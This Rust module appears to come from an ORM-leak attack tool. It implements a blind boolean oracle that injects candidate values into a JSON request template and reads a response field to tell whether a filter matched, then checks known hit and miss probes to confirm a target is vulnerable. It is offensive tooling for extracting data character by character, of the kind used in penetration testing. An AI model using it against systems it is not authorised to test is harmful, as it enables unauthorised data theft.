//! Boolean oracle over a JSON request body.
//!
//! The response body (or the value at a JSON pointer inside it) is
//! non-empty exactly when the filter matched.

use super::template::{JsonTemplate, ORM_LEAK};
use crate::client::HttpTarget;
use crate::models::{JsonBlindConfig, OrmLeakError, Payload, ProbeResponse, Result};
use crate::oracle::{BooleanOracle, Oracle};
use async_trait::async_trait;
use serde_json::Value;
use std::sync::Arc;
use tracing::info;

pub struct JsonBlindOracle {
    target: Arc<HttpTarget>,
    template: JsonTemplate,
    success_pointer: String,
    contains: bool,
    known_hit: Option<String>,
    known_miss: Option<String>,
}

impl JsonBlindOracle {
    pub fn new(config: &JsonBlindConfig, target: Arc<HttpTarget>) -> Result<Self> {
        Ok(Self {
            target,
            template: JsonTemplate::load("template", &config.template, ORM_LEAK)?,
            success_pointer: config.success_pointer.clone(),
            contains: config.contains,
            known_hit: config.known_hit.clone(),
            known_miss: config.known_miss.clone(),
        })
    }

    async fn probe_setup(&self, value: &str) -> Result<bool> {
        let payload = self.create_payload(value);
        let response = self
            .target
            .send_with_retry(self.target.method(), &payload)
            .await?;
        Ok(self.was_success_result(&response))
    }
}

/// Whether a JSON value carries data.
pub(crate) fn is_non_empty(value: &Value) -> bool {
    match value {
        Value::Null => false,
        Value::Bool(b) => *b,
        Value::String(s) => !s.is_empty(),
        Value::Array(items) => !items.is_empty(),
        Value::Object(map) => !map.is_empty(),
        Value::Number(_) => true,
    }
}

#[async_trait]
impl Oracle for JsonBlindOracle {
    fn name(&self) -> &str {
        "json-blind"
    }

    fn create_payload(&self, candidate: &str) -> Payload {
        Payload::Json(self.template.with_str(candidate))
    }

    async fn send_request(&self, payload: &Payload) -> Result<ProbeResponse> {
        self.target.send(payload).await
    }
}

#[async_trait]
impl BooleanOracle for JsonBlindOracle {
    fn was_success_result(&self, response: &ProbeResponse) -> bool {
        if response.is_rejected() {
            return false;
        }
        response
            .json()
            .as_ref()
            .and_then(|body| body.pointer(&self.success_pointer))
            .is_some_and(is_non_empty)
    }

    fn is_contains_attack(&self) -> bool {
        self.contains
    }

    async fn pre_checks(&self) -> Result<()> {
        if let Some(hit) = &self.known_hit {
            if !self.probe_setup(hit).await? {
                return Err(OrmLeakError::NotVulnerable(format!(
                    "known hit '{hit}' did not match"
                )));
            }
        }
        if let Some(miss) = &self.known_miss {
            if self.probe_setup(miss).await? {
                return Err(OrmLeakError::NotVulnerable(format!(
                    "known miss '{miss}' matched"
                )));
            }
        }
        if self.known_hit.is_some() || self.known_miss.is_some() {
            info!(url = %self.target.url(), "Pre-checks passed");
        }
        Ok(())
    }
}
